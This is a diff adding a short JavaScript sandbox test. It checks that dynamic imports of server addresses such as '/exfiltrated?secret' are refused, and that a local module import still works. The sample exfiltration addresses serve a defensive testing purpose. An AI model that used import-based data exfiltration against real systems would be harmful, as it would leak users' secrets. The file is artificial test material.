@@ -1,0 +1,20 @@
+/*---
+id = "A67b"
+title = "nothing is fetched by importing it, whatever is put into its address"
+boundary = "program"
+expect = "nothing"
+audit = []
+---*/
+export async function attack({ server, refuses }) {
+  let gained = "";
+  for (const address of [`${server}/exfiltrated?secret`, `${server}/x.js#secret`, `${server}/x.json`]) {
+    gained += await refuses(address, "TypeError", () => import(address));
+  }
+  return gained;
+}
+
+export async function control() {
+  return (await import("./other.js")).other === 1;
+}
+//// suspect/other.js
+export const other = 1;
